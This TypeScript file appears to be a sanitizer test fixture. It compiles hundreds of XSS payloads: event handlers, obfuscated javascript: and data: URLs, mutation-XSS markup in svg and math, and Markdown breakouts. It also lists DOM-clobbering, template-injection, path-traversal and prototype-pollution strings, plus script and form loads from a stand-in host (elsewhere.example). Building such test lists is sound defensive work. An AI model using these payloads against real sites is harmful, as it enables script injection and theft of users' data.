/**
 * Bodies that would like to run. Each calls `hit`, loads something or goes somewhere; the page must do none of
 * it. Combined from the known ways in: elements, handlers, addresses, foreign markup, parsers that disagree.
 */
const call = 'hit(1)'
const away = 'https://elsewhere.example/taken'

/** Elements that run, load or lead away by themselves, each with every handler that fits it. */
const elements: readonly [open: string, handlers: readonly string[]][] = [
  ['<img src=x', ['onerror']],
  ['<img src=/icon.svg', ['onload']],
  ['<svg', ['onload', 'onmouseover']],
  ['<body', ['onload', 'onpageshow', 'onhashchange']],
  ['<iframe src=/', ['onload']],
  ['<video src=x', ['onerror', 'onloadstart']],
  ['<audio src=x', ['onerror', 'onloadstart']],
  ['<details open', ['ontoggle']],
  ['<input autofocus', ['onfocus', 'onblur']],
  ['<select autofocus', ['onfocus']],
  ['<textarea autofocus', ['onfocus']],
  ['<button autofocus', ['onfocus', 'onclick']],
  ['<marquee', ['onstart', 'onfinish']],
  ['<object data=x', ['onerror']],
  ['<link rel=stylesheet href=x', ['onerror', 'onload']],
  ['<style', ['onload']],
  ['<script', ['onerror']],
  [
    '<div tabindex=0 autofocus',
    ['onfocus', 'onanimationstart', 'ontransitionend', 'onpointerenter', 'onwheel'],
  ],
  ['<form', ['onsubmit', 'onformdata']],
  ['<dialog open', ['onclose', 'onbeforetoggle']],
]
const quotes: readonly ((text: string) => string)[] = [
  (text) => `"${text}"`,
  (text) => text,
  (text) => `'${text}'`,
]

const handlers = elements.flatMap(([open, names]) =>
  names.flatMap((name, n) => {
    const wrap = quotes[n % quotes.length]!
    return [
      `${open} ${name}=${wrap(call)}>`,
      `${open.replace(' ', '/')}/${name.toUpperCase()}=${wrap(call)} //`,
    ]
  }),
)

/** Addresses that are code, in the spellings that filters have missed. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\u0000script:${call}`.replace('\u0000', '&#0;'),
  `javascript&colon;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A;&#x61;vascript:${call}`,
  `\u0001javascript:${call}`.replace('\u0001', '&#1;'),
  `javascript:/*--></title>*/${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `blob:${away}`,
  `file:///etc/passwd`,
  `//elsewhere.example/taken`,
  `/api/mailboxes/user/send`,
  `view-source:${away}`,
  `%6a%61vascript:${call}`,
]

const links = addresses.flatMap((address) => [
  `[click](${address})`,
  `[click](<${address}>)`,
  `![picture](${address})`,
  `<a href="${address}">click</a>`,
])
const references = addresses
  .slice(0, 8)
  .flatMap((address) => [`[click][1]\n\n[1]: ${address}`, `<${address}>`])

const loads = [
  `<img src="${away}">`,
  `![x](${away}.png)`,
  `![x](${away}.png "title" onerror=${call})`,
  `<img srcset="${away} 2x">`,
  `<picture><source srcset="${away}"><img></picture>`,
  `<link rel=stylesheet href="${away}">`,
  `<link rel=prefetch href="${away}">`,
  `<link rel=dns-prefetch href="//elsewhere.example">`,
  `<style>@import url("${away}");*{background:url(${away})}</style>`,
  `<div style="background:url(${away})">x</div>`,
  `<table background="${away}"><tr><td>x</td></tr></table>`,
  `<script src="${away}"></script>`,
  `<iframe src="${away}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<embed src="${away}">`,
  `<object data="${away}"></object>`,
  `<video poster="${away}"></video>`,
  `<audio src="${away}" autoplay></audio>`,
  `<base href="${away}">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<form action="${away}"><button autofocus>go</button></form>`,
  `<a href="https://elsewhere.example" ping="${away}">x</a>`,
  `<svg><image href="${away}"/></svg>`,
  `<svg><use href="${away}#x"/></svg>`,
  `<portal src="${away}"></portal>`,
]

/** Markup of other languages, and markup that reads differently the second time it is parsed. */
const foreign = [
  `<svg><script>${call}</script></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${call}>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${call}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
  `<math href="javascript:${call}">click</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${call}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${call}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${call}>"></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  `<template><img src=x onerror=${call}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${call}></template>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--!><img src=x onerror=${call}>`,
  `<![CDATA[><img src=x onerror=${call}>]]>`,
  `<?xml ?><img src=x onerror=${call}>`,
  `</script><script>${call}</script>`,
  `<script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<SCRIPT SRC=data:,${call}></SCRIPT>`,
  `<script type=module>${call}</script>`,
  `<img alt="\`><script>${call}</script>">`,
  `<<img src=x onerror=${call}>`,
  `<img """><script>${call}</script>">`,
  `<img src=x:x onerror\u00a0=${call}>`,
  `<a id=token name=token href=x>clobber</a><form id=app><input name=replaceChildren></form>`,
  `<img name=getElementById><img name=cookie>`,
  `<div id=m-1 popover onbeforetoggle=${call}>x</div><button popovertarget=m-1 autofocus>x</button>`,
]

/** Ways out of Markdown's own constructs. */
const markdown = [
  `\`\`\`"><img src=x onerror=${call}>\nx\n\`\`\``,
  `\`\`\`html\n<img src=x onerror=${call}>\n\`\`\``,
  `\`<img src=x onerror=${call}>\``,
  `    <img src=x onerror=${call}>`,
  `# <img src=x onerror=${call}>`,
  `> <svg onload=${call}>`,
  `- [ ] <img src=x onerror=${call}>`,
  // Links that only contain the beginning of a web address.
  '[x](/x?http://evil.example)',
  '[x](//evil.example/http://x)',
  '[x](ftp://evil.example/http://x)',
  `| a | <img src=x onerror=${call}> |\n|---|---|\n| [x](javascript:${call}) | y |`,
  `[a](https://a.example"onmouseover="${call})`,
  `[a](https://a.example "x" onmouseover=${call})`,
  `[a](https://a.example '"><img src=x onerror=${call}>')`,
  `![a"onerror="${call}](x)`,
  `![a](x "onerror=${call}")`,
  `[<img src=x onerror=${call}>](https://a.example)`,
  `[x]: javascript:${call} "y"\n\n[x]`,
  `<https://a.example/"onmouseover="${call}">`,
  `http://a.example/<script>${call}</script>`,
  `www.a.example"onclick="${call}`,
  `a@b.example"><img src=x onerror=${call}>`,
  `*<img src=x onerror=${call}>*`,
  `~~<svg/onload=${call}>~~`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&amp;lt;script&amp;gt;${call}`,
  `\\<img src=x onerror=${call}>`,
  `<img src=x\nonerror=${call}\n>`,
  `<div\n\n<img src=x onerror=${call}>`,
  `[x](\\\njavascript:${call})`,
  `{{constructor.constructor('${call}')()}}`,
  `\${${call}}`,
  `"><img src=x onerror=${call}>`,
  `'-${call}-'`,
]

export const hostileBodies: readonly string[] = [
  ...new Set([...handlers, ...links, ...references, ...loads, ...foreign, ...markdown]),
]

/** Those that fit where a name or a tag stands: no colon, no control, and not too long once escaped. */
export const hostileNames: readonly string[] = [
  ...new Set([
    `<img src=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `"><script>${call}</script>`,
    `'onmouseover='${call}`,
    `</title><script>${call}`,
    `</style><img src=x onerror=${call}>`,
    `\${${call}}`,
    `{{7*7}}`,
    `../../../etc`,
    `..`,
    `~.`,
    `%2e%2e%2f`,
    `a?b#c&d=e`,
    `a\\b`,
    `__proto__`,
    `constructor`,
    `toString`,
  ]),
]
